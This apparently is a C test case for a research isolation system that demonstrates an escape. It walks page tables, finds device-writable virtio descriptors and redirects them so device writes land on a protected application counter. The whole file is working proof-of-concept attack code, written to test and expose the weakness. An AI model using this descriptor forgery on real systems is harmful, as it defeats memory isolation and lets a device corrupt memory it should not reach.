// Shows: a device is made to write for an extension: in a write window the descriptors that lie ready for the console's input are
// pointed at the application's counter.
// Expected: under uio-mpk escaped when the next line is typed: keys and page tables don't bind a device, and a window is no excuse for
// what it does outside of one.
#include "ushell.h"

enum { INPUT_BYTES = 1024, DEVICE_WRITES = 2 };  // flags: VIRTQ_DESC_F_WRITE (virtio 1.2, section 2.7.5)

static int is_mapped(uint64_t address) {
  uint64_t table;
  __asm__ volatile("mov %%cr3, %0" : "=r"(table));
  table &= ~0xfffull;
  for (int shift = 39; shift >= 12; shift -= 9) {
    const uint64_t entry = ((const volatile uint64_t *)table)[address >> shift & 511];
    if (!(entry & 1)) return 0;
    if (entry & 0x80) return 1;
    table = entry & 0x000ffffffffff000;
  }
  return 1;
}

// A descriptor is an address, 32 bits of length, 16 of flags and 16 of the next one's number.
int main(void) {
  int found = 0;
  for (uint64_t page = (uint64_t)&count & ~0xfffull; page < 0x400000; page += 4096) {
    if (!is_mapped(page)) continue;
    for (uint64_t at = page; at < page + 4096; at += 16) {
      volatile uint64_t *descriptor = (volatile uint64_t *)at;
      const uint64_t address = descriptor[0], rest = descriptor[1];
      if ((uint32_t)rest != INPUT_BYTES || (rest >> 32 & 0xffff) != DEVICE_WRITES || address < 0x100000) continue;
      USHELL_SET(descriptor[0], (uint64_t)&count);
      found++;
    }
  }
  ushell_put_unsigned(found);
  ushell_puts(" descriptors forged\n");
  return 0;
}
